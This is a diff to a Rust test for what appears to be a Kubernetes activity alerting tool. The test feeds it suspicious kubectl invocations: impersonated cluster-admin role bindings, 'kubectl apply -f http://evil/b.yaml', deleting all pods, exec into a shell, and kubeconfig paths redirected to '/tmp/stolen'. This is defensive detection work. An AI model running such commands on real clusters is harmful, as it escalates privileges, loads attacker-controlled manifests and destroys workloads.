@@ -1,7 +1,7 @@
 //! What is new is never held back: each fact that may change, one at a time.
 
 use super::*;
-use crate::event::Environment;
+use crate::event::{Environment, NamedKubeconfig};
 
 #[test]
 fn what_is_new_in_anything_that_counts_is_an_alert_at_once() {
@@ -31,18 +31,39 @@ fn what_is_new_in_anything_that_counts_is_an_alert_at_once() {
         "--as=b",
         "--as-uid=1",
         "--as-group=g",
+        "--as-user-extra=scopes=all",
+        "--as-user-extra=scopes=none",
+        "--kuberc=/tmp/k",
+        "--kuberc=/tmp/l",
     ]
     .map(with)
     .to_vec();
-    for line in ["kubectl delete pods --as=a", "kubectl get secrets --as=a"] {
+    for line in [
+        "kubectl get secrets --as=a",
+        "kubectl create clusterrolebinding b --clusterrole=view --as=a",
+        "kubectl create clusterrolebinding b --clusterrole=cluster-admin --as=a",
+        "kubectl apply -f a.yaml --as=a",
+        "kubectl apply -f http://evil/b.yaml --as=a",
+        "kubectl delete pods -l a=b --as=a",
+        "kubectl delete pods --all --as=a",
+        "kubectl exec pod --as=a -- id",
+        "kubectl exec pod --as=a -- sh",
+    ] {
         let mut event = first.clone();
         let token = "--token=s3cret-of-mine";
         event.process.args = line.split(' ').chain([token]).collect();
         others.push(event);
     }
+    for folder in ["/here", "/there"] {
+        let mut event = with("--kubeconfig=config");
+        let (args, environment) = (&event.process.args, &event.environment);
+        event.kubeconfig_named = NamedKubeconfig::of(args, environment, folder.as_bytes());
+        others.push(event);
+    }
     others.extend(
         [
             "KUBECONFIG=/tmp/stolen",
+            "KUBERC=/tmp/stolen",
             "KUBECONFIG=/tmp/stolen:/root/.kube/config",
             "HOME=/tmp/stolen",
             "KUBERNETES_MASTER=https://other",
@@ -66,4 +87,11 @@ fn what_is_new_in_anything_that_counts_is_an_alert_at_once() {
     let mut same = in_environment("SSH_CONNECTION=192.0.2.7 50122 192.0.2.1 22\0PATH=/bin");
     (same.sequence, same.process.pid) = (999, 999);
     assert_eq!(decide(&mut it, &rule, &same).0, repeat_of(1), "another login");
+    let mut same = with("--limit=500");
+    (same.sequence, same.process.pid) = (1000, 1000);
+    assert_eq!(
+        decide(&mut it, &rule, &same).0,
+        repeat_of(1),
+        "a look with other arguments"
+    );
 }
